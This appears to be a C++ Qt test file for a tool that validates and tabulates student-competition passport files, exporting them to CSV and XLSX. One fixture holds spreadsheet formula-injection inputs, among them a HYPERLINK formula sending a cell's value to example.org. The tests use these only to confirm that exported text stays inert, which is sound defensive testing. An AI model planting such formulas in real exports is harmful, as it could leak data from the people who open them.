// The committee's commands over generated folders: sound, damaged and hand-edited passports, and
// the bad input a folder from a stick brings. Output is compared whole.

#include "committee/CommandLine.h"
#include "committee/Output.h"
#include "committee/PassportFiles.h"
#include "core/passport/PassportDocument.h"
#include "core/picture/Base64.h"
#include "core/shell/Windows1251.h"
#include "support/JpegFixtures.h"
#include "support/Passports.h"
#include "support/PermissionBits.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QProcessEnvironment>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QTest>
#include <cerrno>
#include <csignal>
#include <fcntl.h>
#include <spawn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char** environ;

namespace {

// 2026-12-10T11:36:05Z
constexpr qint64 kStored = 1796902565;

// A passport with one of everything a list row shows, and texts that need quoting.
PassportSnapshot soundPassport()
{
    PassportParts parts;
    parts.title = QStringLiteral("Сказка о \"Золотой рыбке\", часть 1");
    parts.description = QStringLiteral("Описание");
    parts.techRequest = {};
    parts.manual = {};
    parts.postIndex = QStringLiteral("123456");
    parts.postAddress = QStringLiteral("Москва, ул. Ленина, 1");
    parts.phone = QStringLiteral("+7 900 000-00-00");
    parts.email = QStringLiteral("school@example.ru");
    parts.notes = QStringLiteral("Первая строка\r\nвторая, с \"кавычками\"");
    parts.authors = {
        participantEntry("123-456-798", QStringLiteral("Иванов"), QStringLiteral("Иван"), QStringLiteral("Иванович")),
        participantEntry("100-018-305", QStringLiteral("Петров"), QStringLiteral("Пётр"), QStringLiteral("Петрович"))};
    parts.teachers = {participantEntry("765-432-193", QStringLiteral("Ёлкина-Соколова"), QStringLiteral("Анна"),
                                       QStringLiteral("Сергеевна")),
                      participantEntry("100-018-799", QStringLiteral("Сидорова"), QStringLiteral("Мария"),
                                       QStringLiteral("Ильинична"))};
    parts.leaderIndex = 1;
    parts.subjectSlots = {6, 22, 0, 0, 0};
    parts.languages = {false, true, false, true, QStringLiteral("суахили")};
    parts.pictureWidth = 40;
    parts.pictureHeight = 30;
    parts.pictureCaption = QStringLiteral("Рыбка");
    parts.pictureBase64 = QString::fromLatin1(Base64Encode(makeJpeg(quarters(40, 30)), 19));
    return fullPassport(parts);
}

// The least a passport can be: no picture, no invoice recipient, empty contacts.
PassportSnapshot plainPassport()
{
    PassportParts parts;
    parts.leaveOutExtras();
    parts.title = QStringLiteral("Звёздное небо");
    parts.description = {};
    parts.authors = {
        participantEntry("123-456-798", QStringLiteral("Иванов"), QStringLiteral("Иван"), QStringLiteral("Иванович"))};
    parts.teachers = {};
    parts.leaderIndex = -1;
    parts.subjectSlots = {1, 0, 0, 0, 0};
    return fullPassport(parts);
}

// Texts a spreadsheet would take for a formula, a number or a separator.
PassportSnapshot spreadsheetBait()
{
    PassportSnapshot p = plainPassport();
    p.title = QStringLiteral("=1+1");
    p.postIndex = QStringLiteral("012345");
    p.postAddress = QStringLiteral("Москва; ул. Ленина, 1");
    p.phone = QStringLiteral("+79161234567");
    p.notes = QStringLiteral("=HYPERLINK(\"http://example.org/?\"&A2;\"Открыть\")\r\n@SUM(1)\t-2+3");
    return p;
}

QByteArray fileOf(const PassportSnapshot& passport)
{
    return serializePassportDocument(BuildPassportDocument(passport, PassportDocumentKind::Saved, kStored));
}

// The kinds of file a committee receives.
QByteArray content(const QString& kind)
{
    const QByteArray sound = fileOf(soundPassport());
    if (kind == u"sound")
        return sound;
    if (kind == u"plain")
        return fileOf(plainPassport());
    if (kind == u"spreadsheet bait")
        return fileOf(spreadsheetBait());
    if (kind == u"truncated")
        return sound.left(sound.size() / 2);
    if (kind == u"empty")
        return QByteArray();
    if (kind == u"wrong check code")
        return QByteArray(sound).replace("123-456-798", "123-456-789");
    if (kind == u"wrong root")
        return QByteArray(sound).replace("<lumarinda>", "<passport>").replace("</lumarinda>", "</passport>");
    if (kind == u"latin-1")
        return QByteArray(sound).replace("Москва", "\xCC\xEE\xF1\xEA\xE2\xE0");
    if (kind == u"extra attribute")
        return QByteArray(sound).replace("sz_id=\"13\"", "sz_id=\"13\" author=\"me\"");
    qFatal("unknown kind %s", qPrintable(kind));
}

// Passports of one work and its neighbours, for finding works sent twice.
PassportSnapshot workVariant(const QString& kind)
{
    PassportSnapshot p = plainPassport();
    if (kind == u"plain")
        return p;
    if (kind == u"corrected") {
        p.description = QStringLiteral("Исправлено после отправки");
        return p;
    }
    if (kind == u"other authors") {
        p.authors = {participantEntry("100-018-305", QStringLiteral("Петров"), QStringLiteral("Пётр"),
                                      QStringLiteral("Петрович"))};
        return p;
    }
    if (kind == u"other title") {
        p.title = QStringLiteral("Звёздное небо 2");
        return p;
    }
    const ParticipantEntry ivanov = p.authors.constFirst();
    const ParticipantEntry petrov =
        participantEntry("100-018-305", QStringLiteral("Петров"), QStringLiteral("Пётр"), QStringLiteral("Петрович"));
    if (kind == u"two authors") {
        p.authors = {ivanov, petrov};
        return p;
    }
    if (kind == u"two authors reversed") {
        p.authors = {petrov, ivanov};
        return p;
    }
    qFatal("unknown work %s", qPrintable(kind));
}

void put(const QString& path, const QByteArray& bytes);

// "path=kind@seconds" items: the passport `kind` of workVariant() stored `seconds` after kStored,
// or a truncated file for the kind "broken".
void putWorks(const QStringList& files)
{
    for (const QString& item : files) {
        const qsizetype eq = item.indexOf(u'=');
        const qsizetype at = item.indexOf(u'@');
        const QString kind = item.mid(eq + 1, at - eq - 1);
        const qint64 stored = kStored + item.mid(at + 1).toLongLong();
        const QByteArray bytes = serializePassportDocument(BuildPassportDocument(
            workVariant(kind == u"broken" ? QStringLiteral("plain") : kind), PassportDocumentKind::Saved, stored));
        put(item.left(eq), kind == u"broken" ? bytes.left(bytes.size() / 2) : bytes);
    }
}

struct Run
{
    int status = -1;
    QString out;
    QString err;
};

Run run(const QByteArrayList& args)
{
    QByteArray outBytes;
    QByteArray errBytes;
    Run result;
    Output out(outBytes);
    Output err(errBytes);
    result.status = runCommandLine(args, out, err);
    result.out = QString::fromUtf8(outBytes);
    result.err = QString::fromUtf8(errBytes);
    return result;
}

void put(const QString& path, const QByteArray& bytes)
{
    QDir().mkpath(QFileInfo(path).path());
    QFile file(path);
    QVERIFY2(file.open(QIODevice::WriteOnly), qPrintable(path));
    file.write(bytes);
}

// "path=kind" items.
void putAll(const QStringList& files)
{
    for (const QString& item : files) {
        const qsizetype eq = item.indexOf(u'=');
        put(item.left(eq), content(item.mid(eq + 1)));
    }
}

// A file under any name the file system takes, in any encoding; QDir cannot remove a name that is
// not UTF-8, so the caller unlinks it.
void putBytes(const QByteArray& path, const QByteArray& bytes)
{
    const int fd = ::open(path.constData(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    QVERIFY2(fd >= 0, path.constData());
    QCOMPARE(::write(fd, bytes.constData(), bytes.size()), bytes.size());
    ::close(fd);
}

// The sound passport with one attribute's value replaced.
QByteArray soundWith(const QByteArray& attribute, const QByteArray& value)
{
    QByteArray bytes = fileOf(soundPassport());
    const qsizetype start = bytes.indexOf(" " + attribute + "=\"", bytes.indexOf("<lumarinda>")) + attribute.size() + 3;
    return bytes.replace(start, bytes.indexOf('"', start) - start, value);
}

// The fields of a CSV text; quoted line breaks stay inside their field.
QList<QStringList> csvRecords(const QString& text)
{
    QList<QStringList> records;
    QStringList fields;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            fields << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            records << (fields << field);
            fields.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

// A spreadsheet as Python's openpyxl reads it: the sheet names, and per sheet (by name) the frozen
// cell, the filter, the print set-up, the column widths, and per cell its value, type, boldness
// and wrapping.
QJsonObject readSpreadsheet(const QString& path)
{
    static const char* const script = R"(
import json, sys, openpyxl
from openpyxl.utils import get_column_letter
book = openpyxl.load_workbook(sys.argv[1])
def described(sheet):
    setup = sheet.page_setup
    margins = sheet.page_margins
    return {
        "frozen": sheet.freeze_panes,
        "filter": sheet.auto_filter.ref,
        "orientation": setup.orientation,
        "fitToPage": bool(sheet.sheet_properties.pageSetUpPr and sheet.sheet_properties.pageSetUpPr.fitToPage),
        "fitToWidth": setup.fitToWidth,
        "fitToHeight": setup.fitToHeight,
        "titleRows": sheet.print_title_rows,
        "margins": [margins.left, margins.right, margins.top, margins.bottom, margins.header, margins.footer],
        "widths": [sheet.column_dimensions[get_column_letter(i + 1)].width for i in range(sheet.max_column)],
        "rows": [[{"value": c.value, "type": c.data_type, "bold": bool(c.font.b),
                   "wrap": bool(c.alignment.wrap_text)} for c in row] for row in sheet.iter_rows()],
    }
print(json.dumps({"sheets": book.sheetnames, "sheet": {s.title: described(s) for s in book.worksheets}}))
)";
    QProcess python;
    python.start(QStringLiteral(LUMARINDA_PYTHON), {QStringLiteral("-c"), QString::fromUtf8(script), path});
    if (!python.waitForFinished(60000) || python.exitCode() != 0) {
        qWarning("%s", python.readAllStandardError().constData());
        return {};
    }
    return QJsonDocument::fromJson(python.readAllStandardOutput()).object();
}

// One sheet of a spreadsheet read by readSpreadsheet().
QJsonObject sheetOf(const QJsonObject& book, const QString& name)
{
    return book.value(u"sheet").toObject().value(name).toObject();
}

// The real program on a desktop in `locale` (the C library's and Qt's); returns its exit status.
int runInLocale(const QStringList& args, const QString& locale)
{
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QStringLiteral("LANG"), locale);
    environment.insert(QStringLiteral("LC_ALL"), locale);
    // Moscow keeps UTC+3 all year.
    environment.insert(QStringLiteral("TZ"), QStringLiteral("Europe/Moscow"));
    QProcess program;
    program.setProcessEnvironment(environment);
    program.start(QStringLiteral(LUMARINDA_BINARY), args);
    if (!program.waitForFinished(60000) || program.exitStatus() != QProcess::NormalExit)
        return -1;
    return program.exitCode();
}

// The reader names where in the file XML goes wrong; the numbers follow the layout of the file,
// the words must stay.
QString withPositionsHidden(QString text)
{
    static const QRegularExpression position(QStringLiteral("\\(строка \\d+, позиция \\d+\\)"));
    return text.replace(position, QStringLiteral("(строка N, позиция M)"));
}

QByteArrayList bytesOf(const QStringList& args)
{
    QByteArrayList list;
    for (const QString& arg : args)
        list << arg.toUtf8();
    return list;
}

// Where the real program's standard output or error stream goes.
enum class Sink
{
    File,
    FullDisk,
    ClosedPipe,
};

// A descriptor for `sink`; for a file, `path` names it.
int openSink(Sink sink, const char* path)
{
    switch (sink) {
    case Sink::File:
        return ::open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    case Sink::FullDisk:
        return ::open("/dev/full", O_WRONLY);
    case Sink::ClosedPipe: {
        int ends[2];
        if (::pipe(ends) != 0)
            return -1;
        ::close(ends[0]);
        return ends[1];
    }
    }
    return -1;
}

struct Ended
{
    // The exit status, or -1 when a signal ended the program.
    int status = -1;
    QByteArray err;
};

// The real program with its streams on `out` and `err`, and SIGPIPE at its default whatever the
// test runner ignores, as a shell starts it.
Ended runProgram(const QByteArrayList& args, Sink out, Sink err)
{
    const int outFd = openSink(out, "out.txt");
    const int errFd = openSink(err, "err.txt");
    QByteArrayList owned = QByteArrayList{LUMARINDA_BINARY} + args;
    std::vector<char*> argv;
    for (QByteArray& arg : owned)
        argv.push_back(arg.data());
    argv.push_back(nullptr);
    posix_spawn_file_actions_t actions;
    posix_spawn_file_actions_init(&actions);
    posix_spawn_file_actions_adddup2(&actions, outFd, STDOUT_FILENO);
    posix_spawn_file_actions_adddup2(&actions, errFd, STDERR_FILENO);
    posix_spawnattr_t attributes;
    posix_spawnattr_init(&attributes);
    sigset_t defaults;
    sigemptyset(&defaults);
    sigaddset(&defaults, SIGPIPE);
    posix_spawnattr_setsigdefault(&attributes, &defaults);
    posix_spawnattr_setflags(&attributes, POSIX_SPAWN_SETSIGDEF);
    pid_t child = 0;
    const int spawned = ::posix_spawn(&child, LUMARINDA_BINARY, &actions, &attributes, argv.data(), environ);
    posix_spawn_file_actions_destroy(&actions);
    posix_spawnattr_destroy(&attributes);
    ::close(outFd);
    ::close(errFd);
    Ended ended;
    int status = 0;
    if (spawned != 0 || ::waitpid(child, &status, 0) != child)
        return ended;
    if (WIFEXITED(status))
        ended.status = WEXITSTATUS(status);
    if (err == Sink::File) {
        QFile file(QStringLiteral("err.txt"));
        if (file.open(QIODevice::ReadOnly))
            ended.err = file.readAll();
    }
    return ended;
}

} // namespace

class CommandLineTest : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void check_data();
    void check();
    void resends_data();
    void resends();
    void quiet_data();
    void quiet();
    void listIsCsv();
    void listGoesToAFileOrASpreadsheet();
    void spreadsheetIsAWorkingDocument();
    void spreadsheetNumbersIgnoreTheLocale();
    void listWithoutATemporaryFolder();
    void oneFileByTwoPaths();
    void listReportsBrokenFilesOnStandardErrorOnly();
    void badInputGivesALineEach();
    void hostileNamesAndContent_data();
    void hostileNamesAndContent();
    void manyOtherFilesAreSkipped();
    void unreadableFile();
    void editorOrCommand_data();
    void editorOrCommand();
    void usage_data();
    void usage();
    void helpAndVersion();
    void forgetPerson_data();
    void forgetPerson();
    void passportFileSuffix_data();
    void passportFileSuffix();
    void realBinaryNeedsNoDisplay();
    void lostOutputIsAFailure_data();
    void lostOutputIsAFailure();
    void sameOutputWhateverTheThreads_data();
    void sameOutputWhateverTheThreads();
    void lostOutputMidRunWhateverTheThreads_data();
    void lostOutputMidRunWhateverTheThreads();

private:
    std::unique_ptr<QTemporaryDir> m_dir;
    QString m_oldCurrent;
};

void CommandLineTest::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_oldCurrent = QDir::currentPath();
    // Relative paths keep the expected lines short and the same on every machine.
    QVERIFY(QDir::setCurrent(m_dir->path()));
}

void CommandLineTest::cleanup()
{
    QDir::setCurrent(m_oldCurrent);
    m_dir.reset();
}

void CommandLineTest::check_data()
{
    QTest::addColumn<QStringList>("files");
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("status");

    const QStringList folder = {"works/a.qdx.xml=sound",           "works/B.QDX.XML=plain",
                                "works/notes.txt=truncated",       "works/a.qdx.xml.bak=truncated",
                                "works/sub/c.qdx.xml=truncated",   "works/sub/d.Qdx.Xml=wrong check code",
                                "works/sub/e.qdx.xml=wrong root",  "works/sub/f.qdx.xml=empty",
                                "works/sub/g.qdx.xml=latin-1",     "works/sub/h.qdx.xml=extra attribute",
                                "works/sub/deeper/i.qdx.xml=sound"};

    QTest::newRow("sound, damaged and hand-edited, sorted, any letter case")
        << folder << QStringList{"--check", "works"}
        << "works/B.QDX.XML: OK\n"
           "works/a.qdx.xml: OK\n"
           "works/sub/c.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
           "works/sub/d.Qdx.Xml: Неверный контрольный код в идентификаторе участника «123-456-789»\n"
           "works/sub/deeper/i.qdx.xml: OK, повторяет works/a.qdx.xml\n"
           "works/sub/e.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"
           "works/sub/f.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
           "works/sub/g.qdx.xml: Текст файла не в кодировке UTF-8\n"
           "works/sub/h.qdx.xml: У элемента «work» лишний атрибут «author»\n"
           "Проверено 9, исправных 3, с ошибками 6, повторов 1\n"
        << 1;
    QTest::newRow("all sound") << QStringList{"one.qdx.xml=sound", "two/two.qdx.xml=plain"}
                               << QStringList{"--check", "two", "one.qdx.xml"}
                               << "two/two.qdx.xml: OK\n"
                                  "one.qdx.xml: OK\n"
                                  "Проверено 2, исправных 2, с ошибками 0\n"
                               << 0;
    QTest::newRow("a named file is read whatever its name")
        << QStringList{"mail/attachment.xml=sound"} << QStringList{"--check", "mail/attachment.xml"}
        << "mail/attachment.xml: OK\n"
           "Проверено 1, исправных 1, с ошибками 0\n"
        << 0;
    QTest::newRow("missing path") << QStringList{"one.qdx.xml=sound"}
                                  << QStringList{"--check", "one.qdx.xml", "gone.qdx.xml"}
                                  << "one.qdx.xml: OK\n"
                                     "gone.qdx.xml: Файл или папка не существует\n"
                                     "Проверено 2, исправных 1, с ошибками 1\n"
                                  << 1;
    QTest::newRow("folder without passports")
        << QStringList{"empty/readme.txt=sound"} << QStringList{"--check", "empty"}
        << "Проверено 0, исправных 0, с ошибками 0\n"
        << 0;
    QTest::newRow("a path after --") << QStringList{"-odd.qdx.xml=sound"}
                                     << QStringList{"--check", "--", "-odd.qdx.xml"}
                                     << "-odd.qdx.xml: OK\n"
                                        "Проверено 1, исправных 1, с ошибками 0\n"
                                     << 0;
}

void CommandLineTest::check()
{
    QFETCH(QStringList, files);
    QFETCH(QStringList, args);
    QFETCH(QString, expected);
    QFETCH(int, status);
    putAll(files);

    const Run result = run(bytesOf(args));
    QCOMPARE(withPositionsHidden(result.out), expected);
    QCOMPARE(result.err, QString());
    QCOMPARE(result.status, status);
}

// A work sent twice is named on the later file's line; a resend is not a problem.
void CommandLineTest::resends_data()
{
    QTest::addColumn<QStringList>("files");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("status");

    QTest::newRow("the same file sent again") << QStringList{"w/a.qdx.xml=plain@0", "w/b.qdx.xml=plain@0"}
                                              << "w/a.qdx.xml: OK\n"
                                                 "w/b.qdx.xml: OK, повторяет w/a.qdx.xml\n"
                                                 "Проверено 2, исправных 2, с ошибками 0, повторов 1\n"
                                              << 0;
    QTest::newRow("corrected, the first stored under the later name")
        << QStringList{"w/a.qdx.xml=corrected@60", "w/b.qdx.xml=plain@0"}
        << "w/a.qdx.xml: OK, та же работа, что w/b.qdx.xml\n"
           "w/b.qdx.xml: OK\n"
           "Проверено 2, исправных 2, с ошибками 0, повторов 1\n"
        << 0;
    QTest::newRow("the same title with other authors")
        << QStringList{"w/a.qdx.xml=plain@0", "w/b.qdx.xml=other authors@60"}
        << "w/a.qdx.xml: OK\n"
           "w/b.qdx.xml: OK\n"
           "Проверено 2, исправных 2, с ошибками 0\n"
        << 0;
    QTest::newRow("another title with the same authors")
        << QStringList{"w/a.qdx.xml=plain@0", "w/b.qdx.xml=other title@60"}
        << "w/a.qdx.xml: OK\n"
           "w/b.qdx.xml: OK\n"
           "Проверено 2, исправных 2, с ошибками 0\n"
        << 0;
    QTest::newRow("the same authors in another order")
        << QStringList{"w/a.qdx.xml=two authors@0", "w/b.qdx.xml=two authors reversed@60"}
        << "w/a.qdx.xml: OK\n"
           "w/b.qdx.xml: OK, та же работа, что w/a.qdx.xml\n"
           "Проверено 2, исправных 2, с ошибками 0, повторов 1\n"
        << 0;
    QTest::newRow("three copies name the first")
        << QStringList{"w/c.qdx.xml=plain@0", "w/a.qdx.xml=plain@0", "w/sub/b.qdx.xml=plain@0"}
        << "w/a.qdx.xml: OK\n"
           "w/c.qdx.xml: OK, повторяет w/a.qdx.xml\n"
           "w/sub/b.qdx.xml: OK, повторяет w/a.qdx.xml\n"
           "Проверено 3, исправных 3, с ошибками 0, повторов 2\n"
        << 0;
    QTest::newRow("a copy of the correction names the correction")
        << QStringList{"w/a.qdx.xml=plain@0", "w/b.qdx.xml=corrected@60", "w/c.qdx.xml=corrected@60"}
        << "w/a.qdx.xml: OK\n"
           "w/b.qdx.xml: OK, та же работа, что w/a.qdx.xml\n"
           "w/c.qdx.xml: OK, повторяет w/b.qdx.xml\n"
           "Проверено 3, исправных 3, с ошибками 0, повторов 2\n"
        << 0;
    QTest::newRow("a broken copy is a problem, not a resend")
        << QStringList{"w/a.qdx.xml=plain@0", "w/b.qdx.xml=broken@0"}
        << "w/a.qdx.xml: OK\n"
           "w/b.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
           "Проверено 2, исправных 1, с ошибками 1\n"
        << 1;
}

void CommandLineTest::resends()
{
    QFETCH(QStringList, files);
    QFETCH(QString, expected);
    QFETCH(int, status);
    putWorks(files);

    const Run result = run({"--check", "w"});
    QCOMPARE(withPositionsHidden(result.out), expected);
    QCOMPARE(result.err, QString());
    QCOMPARE(result.status, status);
}

void CommandLineTest::quiet_data()
{
    QTest::addColumn<QStringList>("files");
    QTest::addColumn<QString>("key");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("status");

    const QStringList clean = {"w/a.qdx.xml=plain@0", "w/b.qdx.xml=other title@0"};
    const QStringList broken = {"w/a.qdx.xml=plain@0", "w/b.qdx.xml=broken@0", "w/c.qdx.xml=corrected@60",
                                "w/d.qdx.xml=other title@0"};
    for (const QString& key : {QStringLiteral("-q"), QStringLiteral("--quiet")}) {
        QTest::addRow("clean folder, %s", qPrintable(key)) << clean << key << "Проверено 2, исправных 2, с ошибками 0\n"
                                                           << 0;
        QTest::addRow("broken folder, %s", qPrintable(key))
            << broken << key
            << "w/b.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
               "w/c.qdx.xml: OK, та же работа, что w/a.qdx.xml\n"
               "Проверено 4, исправных 3, с ошибками 1, повторов 1\n"
            << 1;
    }
}

void CommandLineTest::quiet()
{
    QFETCH(QStringList, files);
    QFETCH(QString, key);
    QFETCH(QString, expected);
    QFETCH(int, status);
    putWorks(files);

    const Run before = run(bytesOf({"--check", key, "w"}));
    const Run after = run(bytesOf({"--check", "w", key}));
    QCOMPARE(withPositionsHidden(before.out), expected);
    QCOMPARE(after.out, before.out);
    QCOMPARE(before.err, QString());
    QCOMPARE(before.status, status);
}

void CommandLineTest::listIsCsv()
{
    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=plain", "in/c.qdx.xml=plain"});

    QByteArray outBytes;
    QByteArray errBytes;
    Output out(outBytes);
    Output err(errBytes);
    const int status = runCommandLine({"--list", "in"}, out, err);
    const QString expected = QStringLiteral(
        "\"Файл\",\"Сохранён (UTC)\",\"Название\",\"Разделы\",\"Языки\",\"Авторы\",\"Руководители\","
        "\"Получатель счёта\",\"Индекс\",\"Адрес\",\"Телефон\",\"Эл. почта\",\"Ширина рисунка\",\"Высота рисунка\","
        "\"Подпись к рисунку\",\"Комментарий\",\"Повтор\"\r\n"
        "\"in/a.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Сказка о \"\"Золотой рыбке\"\", часть 1\","
        "\"6 Лингвистика; 22 В помощь учителю\",\"26 Английский язык; другое: суахили\","
        "\"123-456-798 Иванов Иван Иванович; 100-018-305 Петров Пётр Петрович\","
        "\"765-432-193 Ёлкина-Соколова Анна Сергеевна; 100-018-799 Сидорова Мария Ильинична\","
        "\"100-018-799 Сидорова Мария Ильинична\",\"123456\",\"Москва, ул. Ленина, 1\",\"+7 900 000-00-00\","
        "\"school@example.ru\",\"40\",\"30\",\"Рыбка\",\"Первая строка\r\nвторая, с \"\"кавычками\"\"\",\"\"\r\n"
        "\"in/b.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Звёздное небо\",\"1 Астрономия, космонавтика и авиация\",\"\","
        "\"123-456-798 Иванов Иван Иванович\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\"\r\n"
        "\"in/c.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Звёздное небо\",\"1 Астрономия, космонавтика и авиация\",\"\","
        "\"123-456-798 Иванов Иван Иванович\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\","
        "\"повторяет in/b.qdx.xml\"\r\n");
    QVERIFY(outBytes.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(QString::fromUtf8(outBytes.mid(3)), expected);
    QCOMPARE(QString::fromUtf8(errBytes), QString());
    QCOMPARE(status, 0);
}

// The list in a file is the list on standard output.
void CommandLineTest::listGoesToAFileOrASpreadsheet()
{
    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=plain", "in/c.qdx.xml=spreadsheet bait", "in/d.qdx.xml=truncated"});
    const Run csv = run({"--list", "in"});
    QCOMPARE(csv.status, 1);
    const QList<QStringList> records = csvRecords(csv.out);
    QCOMPARE(records.size(), 4);
    QCOMPARE(records.at(3).at(2), QStringLiteral("=1+1"));

    const Run toFile = run({"--list", "-o", "list.csv", "in"});
    QCOMPARE(toFile.out, QString());
    QCOMPARE(toFile.err, csv.err);
    QCOMPARE(toFile.status, 1);
    QFile file(QStringLiteral("list.csv"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(QString::fromUtf8(bytes), csv.out);
}

// The spreadsheet as the secretary works with it: the list with the work's texts, local times, one
// person a line, a filter and a print set-up; the counts as numbers; the files that failed. Every
// text stays text: no formula runs and "012345" or "+7..." stay as typed.
void CommandLineTest::spreadsheetIsAWorkingDocument()
{
    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=plain", "in/c.qdx.xml=spreadsheet bait", "in/d.qdx.xml=truncated",
            "in/e.qdx.xml=plain"});
    QCOMPARE(runInLocale({"--list", "--output=list.XLSX", "in"}, QStringLiteral("C.UTF-8")), 1);
    const QJsonObject book = readSpreadsheet(QStringLiteral("list.XLSX"));
    QCOMPARE(book.value(u"sheets").toArray(),
             (QJsonArray{QStringLiteral("Работы"), QStringLiteral("Сводка"), QStringLiteral("С ошибками")}));

    const QJsonObject works = sheetOf(book, QStringLiteral("Работы"));
    QCOMPARE(works.value(u"frozen").toString(), QStringLiteral("A2"));
    QCOMPARE(works.value(u"filter").toString(), QStringLiteral("A1:T5"));
    QCOMPARE(works.value(u"orientation").toString(), QStringLiteral("landscape"));
    QVERIFY(works.value(u"fitToPage").toBool());
    QCOMPARE(works.value(u"fitToHeight").toInt(), 0);
    QCOMPARE(works.value(u"titleRows").toString(), QStringLiteral("$1:$1"));
    const QJsonArray rows = works.value(u"rows").toArray();
    QCOMPARE(rows.size(), 5);
    const auto cell = [&rows](int row, int column) { return rows.at(row).toArray().at(column).toObject(); };
    const auto text = [&](int row, int column) { return cell(row, column).value(u"value").toString(); };
    const QStringList header = {"Файл",
                                "Сохранён (UTC+03:00)",
                                "Название",
                                "Описание",
                                "Технические требования",
                                "Руководство",
                                "Разделы",
                                "Языки",
                                "Авторы",
                                "Руководители",
                                "Получатель счёта",
                                "Индекс",
                                "Адрес",
                                "Телефон",
                                "Эл. почта",
                                "Ширина рисунка",
                                "Высота рисунка",
                                "Подпись к рисунку",
                                "Комментарий",
                                "Повтор"};
    for (qsizetype c = 0; c < header.size(); ++c) {
        QCOMPARE(text(0, c), header.at(c));
        QVERIFY(cell(0, c).value(u"bold").toBool());
        QVERIFY(!cell(1, c).value(u"bold").toBool());
    }
    QCOMPARE(text(1, 0), QStringLiteral("in/a.qdx.xml"));
    QCOMPARE(text(1, 1), QStringLiteral("2026-12-10 14:36:05"));
    QCOMPARE(text(1, 3), QStringLiteral("Описание"));
    QCOMPARE(text(1, 8), QStringLiteral("123-456-798 Иванов Иван Иванович\n100-018-305 Петров Пётр Петрович"));
    QVERIFY(cell(1, 8).value(u"wrap").toBool());
    QCOMPARE(text(1, 18), QStringLiteral("Первая строка\nвторая, с \"кавычками\""));
    QCOMPARE(text(3, 2), QStringLiteral("=1+1"));
    QCOMPARE(text(3, 11), QStringLiteral("012345"));
    QCOMPARE(text(3, 13), QStringLiteral("+79161234567"));
    QCOMPARE(text(4, 19), QStringLiteral("повторяет in/b.qdx.xml"));
    for (int r = 1; r < rows.size(); ++r) {
        for (int c = 0; c < header.size(); ++c) {
            const QJsonObject one = cell(r, c);
            QVERIFY2(one.value(u"value").isNull() || one.value(u"type").toString() == u"s",
                     qPrintable(QStringLiteral("row %1, %2").arg(r + 1).arg(header.at(c))));
        }
    }

    // The resend is not counted again.
    const QJsonArray counts = sheetOf(book, QStringLiteral("Сводка")).value(u"rows").toArray();
    QList<QStringList> shown;
    for (const QJsonValue& row : counts) {
        QStringList cells;
        for (const QJsonValue& one : row.toArray()) {
            const QJsonObject c = one.toObject();
            cells << (c.value(u"type").toString() == u"n" ? QString::number(c.value(u"value").toDouble())
                                                          : c.value(u"value").toString());
        }
        shown << cells;
    }
    QCOMPARE(shown.size(), 29);
    QCOMPARE(shown.at(0), (QStringList{"Раздел или язык", "Работ", "Авторов", "Руководителей"}));
    QCOMPARE(shown.at(1), (QStringList{"1 Астрономия, космонавтика и авиация", "2", "2", "0"}));
    QCOMPARE(shown.at(2), (QStringList{"2 Биология", "0", "0", "0"}));
    QCOMPARE(shown.at(6), (QStringList{"6 Лингвистика", "1", "2", "2"}));
    QCOMPARE(shown.at(23), (QStringList{"24 Конкурс «Учебный проект»", "0", "0", "0"}));
    QCOMPARE(shown.at(25), (QStringList{"26 Английский язык", "1", "2", "2"}));
    QCOMPARE(shown.at(22), (QStringList{"22 В помощь учителю", "1", "2", "2"}));
    QCOMPARE(shown.at(27), (QStringList{"другой язык", "1", "2", "2"}));
    QCOMPARE(shown.at(28), (QStringList{"Всего", "3", "4", "2"}));

    const QJsonObject failed = sheetOf(book, QStringLiteral("С ошибками"));
    const QJsonArray problems = failed.value(u"rows").toArray();
    QCOMPARE(problems.size(), 2);
    QCOMPARE(problems.at(1).toArray().at(0).toObject().value(u"value").toString(), QStringLiteral("in/d.qdx.xml"));
    QCOMPARE(withPositionsHidden(problems.at(1).toArray().at(1).toObject().value(u"value").toString()),
             QStringLiteral("Текст файла не является правильным документом XML (строка N, позиция M)"));
    QCOMPARE(failed.value(u"filter").toString(), QStringLiteral("A1:B2"));
}

